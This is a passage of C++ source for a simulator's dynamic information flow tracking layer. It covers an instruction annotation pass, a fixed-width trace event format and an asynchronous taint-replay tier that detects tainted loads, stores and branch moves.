#include "isa/program.hh"

namespace shift::dift
{

// Instr::p1 flag bits on annotated loads/stores/ALU ops. They mirror
// the event flag bits (event.hh) the engine derives from them.
constexpr uint8_t kAnnChecked = 1;   ///< Ld/St: bitmap-checked/tracked
constexpr uint8_t kAnnRelaxed = 2;   ///< Ld/St: address-taint relaxation
constexpr uint8_t kAnnZeroIdiom = 4; ///< ALU: xor r,r / sub r,r purify

/**
 * The instrumenter scoping knobs the consumer must agree with. A
 * plain-field copy of the relevant InstrumentOptions (core/ sits
 * above this library, so the runtime copies the fields across).
 */
struct AnnotateOptions
{
    bool instrumentLoads = true;
    bool instrumentStores = true;
    bool instrumentCompares = true;
    bool relaxLoadAddress = false;
    std::set<std::string> relaxLoadFunctions;
    std::set<std::string> relaxStoreFunctions;
    bool cmpTaintAlert = false;
    std::set<std::string> cmpTaintAlertFunctions;
};

struct AnnotateStats
{
    uint64_t checkedLoads = 0;
    uint64_t relaxedLoads = 0;
    uint64_t trackedStores = 0;
    uint64_t relaxedStores = 0;
    uint64_t zeroIdioms = 0;
    uint64_t cmpMarkers = 0;
};

/** Annotate `program` in place for the async tier. */
AnnotateStats annotateForAsync(Program &program,
                               const AnnotateOptions &options);

} // namespace shift::dift

#endif // SHIFT_DIFT_ANNOTATE_HH
