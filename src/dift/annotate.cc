#include "annotate.hh"

#include <vector>

namespace shift::dift
{

namespace
{

/** xor r,r / sub r,r: architecturally zero; the instrumenter purifies. */
bool
isZeroIdiom(const Instr &instr)
{
    return (instr.op == Opcode::Xor || instr.op == Opcode::Sub) &&
           !instr.useImm && instr.r2 == instr.r3 && instr.r1 == instr.r2;
}

/** The unpredicated taint-alert marker: mov br7 = r. */
Instr
makeCmpMarker(int r)
{
    Instr trap;
    trap.op = Opcode::MovToBr;
    trap.br = 7;
    trap.r2 = static_cast<uint16_t>(r);
    trap.prov = Provenance::Check;
    trap.origClass = OrigClass::ForCompare;
    return trap;
}

} // namespace

AnnotateStats
annotateForAsync(Program &program, const AnnotateOptions &opt)
{
    AnnotateStats stats;

    for (Function &fn : program.functions) {
        // Scoping decisions are per-function, exactly as in
        // core/instrument.cc's FunctionInstrumenter.
        bool relaxLoads = opt.relaxLoadAddress ||
                          opt.relaxLoadFunctions.count(fn.name) > 0;
        bool relaxStores = opt.relaxStoreFunctions.count(fn.name) > 0;
        bool cmpAlert = opt.instrumentCompares &&
                        (opt.cmpTaintAlert ||
                         opt.cmpTaintAlertFunctions.count(fn.name) > 0);

        std::vector<Instr> out;
        out.reserve(fn.code.size() + (cmpAlert ? fn.code.size() / 4 : 0));

        for (Instr instr : fn.code) {
            switch (instr.op) {
              case Opcode::Ld:
                if (!instr.fill && opt.instrumentLoads) {
                    instr.p1 = kAnnChecked;
                    ++stats.checkedLoads;
                    if (relaxLoads && !instr.spec) {
                        instr.p1 |= kAnnRelaxed;
                        ++stats.relaxedLoads;
                    }
                } else {
                    instr.p1 = 0;
                }
                break;
              case Opcode::St:
                if (!instr.spill && opt.instrumentStores) {
                    instr.p1 = kAnnChecked;
                    ++stats.trackedStores;
                    // The instrumenter only relaxes a store address
                    // distinct from the stored value (instrument.cc).
                    if (relaxStores && instr.r1 != instr.r2) {
                        instr.p1 |= kAnnRelaxed;
                        ++stats.relaxedStores;
                    }
                } else {
                    instr.p1 = 0;
                }
                break;
              case Opcode::Cmp:
                if (cmpAlert) {
                    // Operand order mirrors emitCmpTaintTrap: r2
                    // first, then r3 — the consumer reports the first
                    // tainted operand, like the predicated trap.
                    out.push_back(makeCmpMarker(instr.r2));
                    ++stats.cmpMarkers;
                    if (!instr.useImm) {
                        out.push_back(makeCmpMarker(instr.r3));
                        ++stats.cmpMarkers;
                    }
                }
                break;
              default:
                if (isZeroIdiom(instr)) {
                    instr.p1 = kAnnZeroIdiom;
                    ++stats.zeroIdioms;
                }
                break;
            }
            out.push_back(std::move(instr));
        }
        fn.code = std::move(out);
    }
    return stats;
}

} // namespace shift::dift
