/**
 * @file
 * The asynchronous taint tier's trace-event format.
 *
 * The decoupled DIFT model (docs/ASYNC-TAINT.md; Wahab et al.'s ARM
 * coprocessor ecosystem and PAGURUS in PAPERS.md are the modern
 * descendants) splits each machine in two: the execution engine runs
 * the *uninstrumented* program and streams a compact, fixed-width
 * event per taint-relevant micro-op into a bounded SPSC ring; a
 * consumer thread replays taint propagation against a private shadow
 * of the tag bitmap. Verdicts are exchanged only at policy fences.
 *
 * Events are 24 bytes, fixed width, no heap: three per cache line.
 * The fields mirror what the PR 1 predecode pass already resolved
 * statically (register numbers, access size, original-stream pc), so
 * producing one is a handful of stores.
 */

#ifndef SHIFT_DIFT_EVENT_HH
#define SHIFT_DIFT_EVENT_HH

#include <cstdint>

namespace shift::dift
{

/** Event kinds (field `kind`). */
enum class EvKind : uint8_t
{
    RegWrite,    ///< ALU result: taint(a) = taint(b) | taint(c)
    Load,        ///< a = dst reg, b = addr reg; addr/size/flags set
    Store,       ///< a = src reg, b = addr reg; addr/size/flags set
    BranchCheck, ///< a = source reg moved into a branch register
};

// Flag bits (field `flags`), kind-specific.
// Load:
constexpr uint8_t kEvChecked = 1; ///< bitmap-checked (instrumented) access
constexpr uint8_t kEvRelaxed = 2; ///< pointer-taint relaxation applies
constexpr uint8_t kEvFill = 4;    ///< ld8.fill (NaT sidecar traffic)
// Store reuses kEvChecked ("tracked": the bitmap RMW applies) and
// kEvRelaxed (store-address relaxation), plus:
constexpr uint8_t kEvSpill = 4; ///< st8.spill (NaT sidecar traffic)
// RegWrite:
constexpr uint8_t kEvZeroIdiom = 1; ///< xor r,r / sub r,r: result clean

/** One fixed-width trace event. */
struct Event
{
    uint64_t addr = 0; ///< effective address (Load/Store)
    int32_t pc = 0;    ///< original-stream index, for fault reporting
    int16_t func = -1; ///< function index, for fault reporting
    uint8_t kind = 0;  ///< an EvKind
    uint8_t flags = 0; ///< kind-specific bits above
    uint8_t a = 0;     ///< kind-specific register (see EvKind)
    uint8_t b = 0;     ///< kind-specific register
    uint8_t c = 0;     ///< RegWrite: second source register (0 = r0)
    uint8_t size = 0;  ///< access size in bytes (Load/Store)
    uint8_t pad[2] = {0, 0};
};

static_assert(sizeof(Event) == 24, "events must stay fixed-width");

} // namespace shift::dift

#endif // SHIFT_DIFT_EVENT_HH
