/**
 * @file
 * The asynchronous taint tier: a per-machine DIFT coprocessor model.
 *
 * One AsyncTaintTier pairs one execution engine (the producer) with
 * one taint-propagation thread (the consumer) over a bounded SPSC
 * event ring — the trace-based decoupling of Wahab et al.'s DIFT
 * coprocessors and PAGURUS, grafted onto SHIFT's NaT/bitmap
 * semantics. The engine runs the *uninstrumented* program and emits
 * one Event per taint-relevant micro-op; the consumer replays the
 * instrumenter's exact propagation rules against a private shadow of
 * the tag bitmap plus a 64-bit register-taint mask.
 *
 * Verdict equivalence rests on the fence protocol:
 *
 *  - The producer publishes its event sequence number and, at every
 *    policy-relevant boundary (builtin call, syscall, divide-by-zero
 *    taint query, end of run), blocks until the consumer's consumed
 *    sequence catches up ("epoch/lag fence"). While quiesced, the
 *    engine may read the consumer's shadow (argNat for H policies),
 *    write it (taint-source mirroring, retval clears), and
 *    materialize dirty shadow tag words into simulated memory so
 *    TaintMap readers (H1-H5 checks) see exactly what the
 *    synchronous engine's bitmap would hold.
 *  - The consumer records the *first* policy violation it replays
 *    (L1/L2/L3 and the plain-store StoreValue fault), then keeps
 *    draining in discard mode so the producer can never deadlock.
 *    The engine observes the flag at the next publish or fence and
 *    raises the identical NaT-consumption fault the synchronous
 *    engine would have raised at that instruction — same context,
 *    same detail string, same function — before any further
 *    policy-visible effect can happen.
 *
 * Detection is therefore *lag-bounded*: a violation surfaces at the
 * next publish/fence rather than in the violating cycle. The tier
 * accounts for that honestly — ring-depth and fence-lag histograms
 * and the host-time delivery latency of each detection land in the
 * run's dift.* stats. See docs/ASYNC-TAINT.md.
 *
 * Threading contract: every public method except the consumer's
 * internals is producer-thread-only. Shadow reads/writes by the
 * engine are only legal while the consumer is quiesced at a fence
 * (enforced by the ring's acquire/release edges; TSan-verified).
 */

#ifndef SHIFT_DIFT_TIER_HH
#define SHIFT_DIFT_TIER_HH

#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <string>
#include <thread>
#include <unordered_map>

#include "dift/event.hh"
#include "dift/spsc_ring.hh"
#include "mem/address_space.hh"
#include "mem/memory.hh"
#include "obs/trace.hh"
#include "support/stats.hh"

namespace shift::dift
{

/**
 * Where the consumer runs. `Thread` is the coprocessor model proper:
 * a dedicated replay thread behind the ring. `Inline` folds the same
 * replay into the producer's push() call — no ring traffic, no
 * fences-with-lag, immediate detection — which is the only
 * configuration that can pay off on a single-hart host, where a
 * consumer thread merely serializes with the engine. `Auto` picks
 * Inline when std::thread::hardware_concurrency() <= 1.
 */
enum class AsyncConsumer : uint8_t
{
    Auto,
    Thread,
    Inline,
};

/** Session-level knobs for the async tier. */
struct AsyncTaintOptions
{
    bool enabled = false;
    /** Event ring capacity; must be a power of two in [2^10, 2^24]. */
    uint32_t ringEvents = 1u << 16;
    /** Events between sequence-number publishes (the lag quantum). */
    uint32_t publishBatch = 32;
    /** Consumer placement; see AsyncConsumer. */
    AsyncConsumer consumer = AsyncConsumer::Auto;
};

/** Empty when valid, else a one-line problem description. */
std::string validateAsyncOptions(const AsyncTaintOptions &options);

/** Which policy family the consumer saw violated. */
enum class ViolationKind : uint8_t
{
    LoadAddress,  ///< L1: tainted pointer dereferenced
    StoreAddress, ///< L2: tainted store address
    StoreValue,   ///< plain store of a tainted register (raw fault)
    ControlFlow,  ///< L3: tainted value into a branch register
};

/** The consumer's verdict, frozen at the first violating event. */
struct Violation
{
    ViolationKind kind = ViolationKind::LoadAddress;
    uint64_t addr = 0;      ///< faulting address, sync-identical
    int32_t pc = 0;         ///< original-stream index
    int16_t func = -1;      ///< function index
    uint64_t seq = 0;       ///< event sequence number
    const char *detail = ""; ///< sync engine's exact fault detail
};

class AsyncTaintTier
{
  public:
    /**
     * `memory` is the machine's memory; the tier bootstraps its
     * shadow from the tag region at start() and materializes dirty
     * shadow words back at every fence. Producer-thread only.
     */
    AsyncTaintTier(Memory &memory, Granularity granularity,
                   const AsyncTaintOptions &options);
    ~AsyncTaintTier();

    AsyncTaintTier(const AsyncTaintTier &) = delete;
    AsyncTaintTier &operator=(const AsyncTaintTier &) = delete;

    /** Observer for ring-stall / fence-wait events (may be null). */
    void setObserver(obs::TraceBuffer *obs) { obs_ = obs; }

    /**
     * Profiled runs measure the threaded consumer's active replay
     * time, exported as `prof.aux.async-consumer.nanos`: off-engine
     * host work that overlaps the engine wall clock, reported beside
     * (never inside) the engine's exhaustive prof.tier.* sum. The
     * inline consumer needs no aux counter — its replay runs inside
     * the engine's async-publish carve. Set before start().
     */
    void setProfiled(bool profiled) { profiled_ = profiled; }

    /** Bootstrap the shadow and launch the consumer thread. */
    void start();

    /** True between start() and shutdown(). */
    bool running() const { return running_; }

    // ----- engine hot path ----------------------------------------------

    /**
     * Append one event. Returns true when the consumer has flagged a
     * violation (checked once per publish batch): the engine must
     * fence and apply it.
     */
    bool
    push(const Event &ev)
    {
        if (inlineMode_) {
            // Inline consumer: replay right here, no ring traffic.
            // Detection is immediate rather than lag-bounded.
            ++inlineEvents_;
            process(ev);
            return violated_.load(std::memory_order_relaxed);
        }
        uint64_t spins = ring_.push(ev);
        if (spins) {
            stallSpins_ += spins;
            ++stalls_;
            if (obs_)
                obs_->emitCold(obs::Ev::RingStall, 0, ev.func, ev.pc,
                               ring_.capacity(), spins);
        }
        if (++sincePublish_ >= publishBatch_) {
            sincePublish_ = 0;
            ring_.publish();
            depthHist_.record(ring_.depth());
            return violated_.load(std::memory_order_relaxed);
        }
        return false;
    }

    // ----- fences (engine thread) ---------------------------------------

    /**
     * Publish and block until the consumer has replayed every pushed
     * event, then materialize dirty shadow tag words into memory.
     * Returns the pending violation, or nullptr. While quiesced the
     * shadow accessors below are valid.
     */
    const Violation *fence();

    /** The violation recorded so far, without fencing (post-fence). */
    const Violation *pendingViolation() const;

    // ----- shadow access, only valid while quiesced at a fence ----------

    /** Register taint (the NaT bit the sync engine would carry). */
    bool
    regTaint(int r) const
    {
        return r > 0 && r < 64 && ((regTaintView() >> r) & 1);
    }

    /** Force a register's taint (retval clears after builtins). */
    void setRegTaint(int r, bool tainted);

    /**
     * Mirror one TaintMap bitmap write into the shadow (the TaintMap
     * hook): `tagAddr`/`bitIndex` exactly as TaintMap::setBit wrote
     * memory.
     */
    void mirrorTagWrite(uint64_t tagAddr, unsigned bitIndex, bool value);

    // ----- teardown -----------------------------------------------------

    /**
     * Final fence + consumer join. Idempotent. After shutdown the
     * shadow remains readable (regTaint / pendingViolation).
     */
    const Violation *shutdown();

    /** Fold dift.* counters and histograms into `stats`. */
    void statInto(StatSet &stats) const;

    uint64_t
    eventsPushed() const
    {
        return inlineMode_ ? inlineEvents_ : ring_.pushed();
    }

    /** True when the consumer replays inline in the engine thread. */
    bool inlineConsumer() const { return inlineMode_; }

    // ----- fused inline replay (inline mode, engine thread only) --------
    //
    // The per-kind entry points below skip Event construction and
    // kind dispatch entirely; they share the replay bodies with
    // process(), so the state transitions are identical to what the
    // threaded consumer would apply. Only legal in inline mode.

    /** ALU destination write; violations can never arise here. */
    void
    inlineRegWrite(uint8_t a, uint8_t b, uint8_t c, bool zeroIdiom)
    {
        ++inlineEvents_;
        ++seq_;
        replayRegWrite(a, b, c, zeroIdiom);
    }

    /** Load replay; true when a violation was raised. */
    bool
    inlineLoad(uint8_t a, uint8_t b, uint8_t flags, uint64_t ea,
               uint8_t size, int32_t pc, int16_t func)
    {
        ++inlineEvents_;
        ++seq_;
        return replayLoad(a, b, flags, ea, size, pc, func);
    }

    /** Store replay; true when a violation was raised. */
    bool
    inlineStore(uint8_t a, uint8_t b, uint8_t flags, uint64_t ea,
                uint8_t size, int32_t pc, int16_t func)
    {
        ++inlineEvents_;
        ++seq_;
        return replayStore(a, b, flags, ea, size, pc, func);
    }

  private:
    struct ShadowPage
    {
        uint8_t bytes[4096] = {};
        uint64_t dirty[8] = {}; ///< bit per 8-byte word (512 words)
    };

    ShadowPage &shadowPage(uint64_t tagAddr);
    ShadowPage *findPage(uint64_t key);
    ShadowPage &ensurePage(uint64_t key);
    uint64_t regTaintView() const { return regTaint_; }
    void consumerLoop();
    void process(const Event &ev);
    bool regBit(uint8_t r) const;
    void setRegBit(uint8_t r, bool t);
    void replayRegWrite(uint8_t a, uint8_t b, uint8_t c, bool zeroIdiom);
    bool replayLoad(uint8_t a, uint8_t b, uint8_t flags, uint64_t ea,
                    uint8_t size, int32_t pc, int16_t func);
    bool replayStore(uint8_t a, uint8_t b, uint8_t flags, uint64_t ea,
                     uint8_t size, int32_t pc, int16_t func);
    bool replayBranchCheck(uint8_t a, uint64_t ea, int32_t pc,
                           int16_t func);
    bool tagWindowTainted(uint64_t ea, unsigned size);
    void writeTagBits(uint64_t ea, unsigned size, bool tainted);
    void rmwShadowByte(uint64_t tagAddr, uint8_t mask, bool set,
                       bool markDirty);
    void violate(ViolationKind kind, uint64_t addr, int32_t pc,
                 int16_t func, const char *detail);
    void materializeDirty();

    Memory *mem_;
    Granularity gran_;
    uint32_t publishBatch_;
    uint32_t sincePublish_ = 0;
    obs::TraceBuffer *obs_ = nullptr;

    SpscRing<Event> ring_;
    std::thread consumer_;
    bool inlineMode_ = false;
    uint64_t inlineEvents_ = 0;
    bool profiled_ = false;
    /** Consumer-thread active replay ns; read after the join. */
    uint64_t consumerActiveNs_ = 0;
    bool running_ = false;
    std::atomic<bool> stop_{false};
    std::atomic<bool> violated_{false};

    // Consumer-owned shadow; engine access only at fence quiesce.
    uint64_t regTaint_ = 0;
    std::unordered_map<uint64_t, std::unique_ptr<ShadowPage>> tagPages_;
    /**
     * Direct-mapped shadow-page cache in front of tagPages_: tag
     * traffic folds 8:1 (or 64:1), so a handful of pages absorb
     * nearly every event and the per-event hash lookup is the
     * consumer's single largest cost. Entries may cache absence
     * (page == nullptr); that stays coherent because page creation
     * goes through ensurePage(), which refreshes the same slot.
     */
    static constexpr unsigned kPageCacheWays = 8;
    struct PageCacheEntry
    {
        uint64_t key = ~0ull;
        ShadowPage *page = nullptr;
    };
    PageCacheEntry pageCache_[kPageCacheWays];
    std::unordered_map<uint64_t, uint8_t> spillTaint_;
    uint64_t seq_ = 0; ///< consumer event sequence
    Violation violation_;
    std::chrono::steady_clock::time_point violationAt_;

    // Engine-side statistics.
    uint64_t stallSpins_ = 0;
    uint64_t stalls_ = 0;
    uint64_t fences_ = 0;
    uint64_t fenceWaitSpins_ = 0;
    uint64_t fenceWaitNs_ = 0;
    uint64_t detectLatencyNs_ = 0;
    bool detectLatencyValid_ = false;
    uint64_t materializedWords_ = 0;
    Histogram depthHist_;
    Histogram fenceLagHist_;
};

// ----- inline replay core -----------------------------------------------
//
// The consumer's per-event replay lives in the header so the inline
// consumer mode — where push() calls process() directly from the
// engine's dispatch loop — compiles to one straight-line path with no
// cross-TU call per event. The threaded consumer loop uses the same
// definitions.

/// The synchronous engine's exact NaT-consumption fault details
/// (sim/machine.cc). The consumer reproduces them verbatim so async
/// verdicts are string-identical to synchronous ones.
inline constexpr const char *kDetailLoadNat =
    "load through a NaT (tainted) address";
inline constexpr const char *kDetailStoreNat =
    "store through a NaT (tainted) address";
inline constexpr const char *kDetailStoreValue =
    "plain store of a NaT source register";
inline constexpr const char *kDetailBranchNat =
    "NaT (tainted) value moved into a branch register";

inline AsyncTaintTier::ShadowPage &
AsyncTaintTier::shadowPage(uint64_t tagAddr)
{
    return ensurePage(tagAddr >> 12);
}

inline AsyncTaintTier::ShadowPage *
AsyncTaintTier::findPage(uint64_t key)
{
    PageCacheEntry &slot = pageCache_[key & (kPageCacheWays - 1)];
    if (slot.key == key) [[likely]]
        return slot.page;
    auto it = tagPages_.find(key);
    slot.key = key;
    slot.page = it == tagPages_.end() ? nullptr : it->second.get();
    return slot.page;
}

inline AsyncTaintTier::ShadowPage &
AsyncTaintTier::ensurePage(uint64_t key)
{
    PageCacheEntry &slot = pageCache_[key & (kPageCacheWays - 1)];
    if (slot.key == key && slot.page) [[likely]]
        return *slot.page;
    std::unique_ptr<ShadowPage> &page = tagPages_[key];
    if (!page)
        page = std::make_unique<ShadowPage>();
    slot.key = key;
    slot.page = page.get();
    return *page;
}

inline bool
AsyncTaintTier::tagWindowTainted(uint64_t ea, unsigned size)
{
    uint64_t t0 = tagByteAddr(ea, gran_);
    if (gran_ == Granularity::Byte) {
        // Two-tag-byte window, exactly as the instrumenter assembles
        // it: the covered bits may straddle a tag-byte boundary. Both
        // bytes live on the same shadow page except at a page edge.
        unsigned off = static_cast<unsigned>(t0 & 0xfff);
        uint32_t window;
        ShadowPage *page = findPage(t0 >> 12);
        if (off != 0xfff) [[likely]] {
            window = page ? page->bytes[off] |
                                (uint32_t(page->bytes[off + 1]) << 8)
                          : 0;
        } else {
            ShadowPage *next = findPage((t0 + 1) >> 12);
            window = (page ? page->bytes[off] : 0) |
                     (next ? uint32_t(next->bytes[0]) << 8 : 0);
        }
        window >>= ea & 7;
        return (window & ((1u << size) - 1)) != 0;
    }
    // Word granularity: one tag byte, one bit, alignment-trusting —
    // the same single-bit test the instrumented stream performs even
    // for straddling accesses.
    ShadowPage *page = findPage(t0 >> 12);
    if (!page)
        return false;
    return (page->bytes[t0 & 0xfff] >> tagBitIndex(ea, gran_)) & 1;
}

inline void
AsyncTaintTier::rmwShadowByte(uint64_t tagAddr, uint8_t mask, bool set,
                              bool markDirty)
{
    if (mask == 0)
        return;
    // Clearing bits on a never-written page is a no-op: don't
    // instantiate shadow for it (clean stores over clean memory are
    // the common case).
    ShadowPage *found = set ? &shadowPage(tagAddr)
                            : findPage(tagAddr >> 12);
    if (!found)
        return;
    ShadowPage &page = *found;
    unsigned off = tagAddr & 0xfff;
    uint8_t before = page.bytes[off];
    uint8_t after = set ? uint8_t(before | mask) : uint8_t(before & ~mask);
    if (after == before)
        return;
    page.bytes[off] = after;
    if (markDirty) {
        unsigned word = off >> 3;
        page.dirty[word >> 6] |= 1ull << (word & 63);
    }
}

inline void
AsyncTaintTier::writeTagBits(uint64_t ea, unsigned size, bool tainted)
{
    uint64_t t0 = tagByteAddr(ea, gran_);
    if (gran_ == Granularity::Byte) {
        uint32_t mask = ((1u << size) - 1) << (ea & 7);
        rmwShadowByte(t0, mask & 0xff, tainted, true);
        rmwShadowByte(t0 + 1, mask >> 8, tainted, true);
        return;
    }
    rmwShadowByte(t0, uint8_t(1u << tagBitIndex(ea, gran_)), tainted,
                  true);
}

inline bool
AsyncTaintTier::regBit(uint8_t r) const
{
    return r > 0 && ((regTaint_ >> r) & 1);
}

inline void
AsyncTaintTier::setRegBit(uint8_t r, bool t)
{
    if (r == 0)
        return; // r0 is hardwired clean
    if (t)
        regTaint_ |= 1ull << r;
    else
        regTaint_ &= ~(1ull << r);
}

inline void
AsyncTaintTier::replayRegWrite(uint8_t a, uint8_t b, uint8_t c,
                               bool zeroIdiom)
{
    setRegBit(a, !zeroIdiom && (regBit(b) || regBit(c)));
}

inline bool
AsyncTaintTier::replayLoad(uint8_t a, uint8_t b, uint8_t flags,
                           uint64_t ea, uint8_t size, int32_t pc,
                           int16_t func)
{
    bool addrTainted = regBit(b);
    if (flags & kEvRelaxed) {
        // Pointer-taint relaxation: the access proceeds and the
        // pointer's taint joins the loaded value's.
        setRegBit(a, tagWindowTainted(ea, size) || addrTainted);
    } else if (addrTainted) [[unlikely]] {
        // L1. A checked load trips on its *tag* load (whose address
        // is the folded tag byte address); an unchecked or fill load
        // trips on the access itself.
        violate(ViolationKind::LoadAddress,
                (flags & kEvChecked) ? tagByteAddr(ea, gran_) : ea, pc,
                func, kDetailLoadNat);
        return true;
    } else if (flags & kEvChecked) {
        setRegBit(a, tagWindowTainted(ea, size));
    } else if (flags & kEvFill) {
        auto it = spillTaint_.find(ea);
        setRegBit(a, it != spillTaint_.end() && it->second);
    } else {
        setRegBit(a, false);
    }
    return false;
}

inline bool
AsyncTaintTier::replayStore(uint8_t a, uint8_t b, uint8_t flags,
                            uint64_t ea, uint8_t size, int32_t pc,
                            int16_t func)
{
    bool srcTainted = regBit(a);
    bool addrTainted = regBit(b);
    if (flags & kEvChecked) {
        // Tracked store: bitmap RMW. A tainted, unrelaxed address
        // trips L2 on the RMW's tag load, sync-identically.
        if (addrTainted && !(flags & kEvRelaxed)) [[unlikely]] {
            violate(ViolationKind::StoreAddress, tagByteAddr(ea, gran_),
                    pc, func, kDetailLoadNat);
            return true;
        }
        writeTagBits(ea, size, srcTainted);
        return false;
    }
    if (flags & kEvSpill) {
        // st8.spill: taint rides the NaT sidecar, shadowed here.
        if (addrTainted) [[unlikely]] {
            violate(ViolationKind::StoreAddress, ea, pc, func,
                    kDetailStoreNat);
            return true;
        }
        if (srcTainted)
            spillTaint_[ea] = 1;
        else
            spillTaint_.erase(ea);
        return false;
    }
    // Untracked plain store: no bitmap update (exactly the
    // uninstrumented-store semantics), but the hardware checks still
    // apply.
    if (addrTainted) [[unlikely]] {
        violate(ViolationKind::StoreAddress, ea, pc, func,
                kDetailStoreNat);
        return true;
    }
    if (srcTainted) [[unlikely]] {
        violate(ViolationKind::StoreValue, ea, pc, func,
                kDetailStoreValue);
        return true;
    }
    return false;
}

inline bool
AsyncTaintTier::replayBranchCheck(uint8_t a, uint64_t ea, int32_t pc,
                                  int16_t func)
{
    if (regBit(a)) [[unlikely]] {
        violate(ViolationKind::ControlFlow, ea, pc, func,
                kDetailBranchNat);
        return true;
    }
    return false;
}

inline void
AsyncTaintTier::process(const Event &ev)
{
    ++seq_;
    if (violated_.load(std::memory_order_relaxed)) [[unlikely]]
        return; // discard mode: drain so the producer can finish

    switch (static_cast<EvKind>(ev.kind)) {
      case EvKind::RegWrite:
        replayRegWrite(ev.a, ev.b, ev.c,
                       (ev.flags & kEvZeroIdiom) != 0);
        break;
      case EvKind::Load:
        replayLoad(ev.a, ev.b, ev.flags, ev.addr, ev.size, ev.pc,
                   ev.func);
        break;
      case EvKind::Store:
        replayStore(ev.a, ev.b, ev.flags, ev.addr, ev.size, ev.pc,
                    ev.func);
        break;
      case EvKind::BranchCheck:
        replayBranchCheck(ev.a, ev.addr, ev.pc, ev.func);
        break;
    }
}

} // namespace shift::dift

#endif // SHIFT_DIFT_TIER_HH
