#include "tier.hh"

#include <chrono>

#include "support/logging.hh"

namespace shift::dift
{

namespace
{

uint64_t
nanosSince(std::chrono::steady_clock::time_point t0)
{
    return static_cast<uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(
            std::chrono::steady_clock::now() - t0)
            .count());
}

} // namespace

std::string
validateAsyncOptions(const AsyncTaintOptions &options)
{
    uint32_t ring = options.ringEvents;
    if (ring < (1u << 10) || ring > (1u << 24))
        return "async-taint ring size must be in [1024, 16777216]";
    if ((ring & (ring - 1)) != 0)
        return "async-taint ring size must be a power of two";
    if (options.publishBatch == 0 || options.publishBatch > ring / 2)
        return "async-taint publish batch must be in [1, ring/2]";
    return "";
}

AsyncTaintTier::AsyncTaintTier(Memory &memory, Granularity granularity,
                               const AsyncTaintOptions &options)
    : mem_(&memory), gran_(granularity),
      publishBatch_(options.publishBatch), ring_(options.ringEvents)
{
    std::string problem = validateAsyncOptions(options);
    if (!problem.empty())
        SHIFT_FATAL("%s", problem.c_str());
    // On a single-hart host a consumer thread can only serialize with
    // the engine, so Auto folds the replay into push() instead.
    inlineMode_ =
        options.consumer == AsyncConsumer::Inline ||
        (options.consumer == AsyncConsumer::Auto &&
         std::thread::hardware_concurrency() <= 1);
}

AsyncTaintTier::~AsyncTaintTier()
{
    shutdown();
}

void
AsyncTaintTier::start()
{
    SHIFT_ASSERT(!running_);
    // Bootstrap the shadow from any taint already in the bitmap
    // (pre-run TaintMap writes, tag pages inherited from a template
    // snapshot). Clean bytes stay demand-absent.
    mem_->forEachPage(kTagRegion,
                      [this](uint64_t base, const uint8_t *data) {
                          ShadowPage &page = shadowPage(base);
                          for (size_t i = 0; i < 4096; ++i)
                              page.bytes[i] = data[i];
                      });
    stop_.store(false, std::memory_order_release);
    if (!inlineMode_)
        consumer_ = std::thread([this] { consumerLoop(); });
    running_ = true;
}

// ----- consumer ---------------------------------------------------------

void
AsyncTaintTier::consumerLoop()
{
    auto handler = [this](const Event &ev) { process(ev); };
    // Profiled runs time each non-empty consume batch: the tier's
    // off-engine replay cost (prof.aux.async-consumer.nanos). Idle
    // spinning is deliberately excluded — it is capacity, not work.
    auto drain = [&]() -> uint64_t {
        if (!profiled_)
            return ring_.consume(handler);
        auto t0 = std::chrono::steady_clock::now();
        uint64_t n = ring_.consume(handler);
        if (n)
            consumerActiveNs_ += nanosSince(t0);
        return n;
    };
    unsigned idle = 0;
    for (;;) {
        if (drain()) {
            idle = 0;
            continue;
        }
        if (stop_.load(std::memory_order_acquire)) {
            // One last drain for events published with the stop flag.
            if (drain() == 0)
                return;
            continue;
        }
        if (++idle > 64)
            std::this_thread::yield();
    }
}

void
AsyncTaintTier::violate(ViolationKind kind, uint64_t addr, int32_t pc,
                        int16_t func, const char *detail)
{
    violation_.kind = kind;
    violation_.addr = addr;
    violation_.pc = pc;
    violation_.func = func;
    violation_.seq = seq_;
    violation_.detail = detail;
    violationAt_ = std::chrono::steady_clock::now();
    violated_.store(true, std::memory_order_release);
}

// ----- fences (engine thread) -------------------------------------------

const Violation *
AsyncTaintTier::fence()
{
    SHIFT_ASSERT(running_);
    if (inlineMode_) {
        // Every event was replayed inside push(): the shadow is
        // always caught up, only the bitmap materialization remains.
        ++fences_;
        fenceLagHist_.record(0);
        materializeDirty();
        return pendingViolation();
    }
    sincePublish_ = 0;
    ring_.publish();
    ++fences_;
    uint64_t target = ring_.pushed();
    uint64_t consumed = ring_.consumed();
    fenceLagHist_.record(target - consumed);
    if (consumed < target) {
        uint64_t lag = target - consumed;
        auto t0 = std::chrono::steady_clock::now();
        uint64_t spins = 0;
        while (ring_.consumed() < target) {
            ++spins;
            if ((spins & 0x3f) == 0)
                std::this_thread::yield();
        }
        fenceWaitSpins_ += spins;
        uint64_t ns = nanosSince(t0);
        fenceWaitNs_ += ns;
        if (obs_)
            obs_->emitCold(obs::Ev::FenceWait, 0, -1, 0, lag, ns);
    }
    materializeDirty();
    return pendingViolation();
}

const Violation *
AsyncTaintTier::pendingViolation() const
{
    if (!violated_.load(std::memory_order_acquire))
        return nullptr;
    if (!detectLatencyValid_) {
        // First observation on the engine side: the lag-bounded
        // detection latency this run actually paid.
        auto *self = const_cast<AsyncTaintTier *>(this);
        self->detectLatencyNs_ = nanosSince(violationAt_);
        self->detectLatencyValid_ = true;
    }
    return &violation_;
}

void
AsyncTaintTier::setRegTaint(int r, bool tainted)
{
    if (r <= 0 || r >= 64)
        return;
    if (tainted)
        regTaint_ |= 1ull << r;
    else
        regTaint_ &= ~(1ull << r);
}

void
AsyncTaintTier::mirrorTagWrite(uint64_t tagAddr, unsigned bitIndex,
                               bool value)
{
    // TaintMap already wrote simulated memory itself (engine thread,
    // consumer quiesced); mirror the byte so later consumer window
    // reads agree. Not marked dirty: memory is already current.
    rmwShadowByte(tagAddr, uint8_t(1u << bitIndex), value, false);
}

void
AsyncTaintTier::materializeDirty()
{
    for (auto &entry : tagPages_) {
        ShadowPage &page = *entry.second;
        uint64_t base = entry.first << 12;
        for (unsigned w = 0; w < 8; ++w) {
            uint64_t dirty = page.dirty[w];
            if (!dirty)
                continue;
            page.dirty[w] = 0;
            while (dirty) {
                unsigned bit = __builtin_ctzll(dirty);
                dirty &= dirty - 1;
                unsigned word = (w << 6) | bit;
                uint64_t value = 0;
                for (unsigned i = 0; i < 8; ++i) {
                    value |= uint64_t(page.bytes[word * 8 + i])
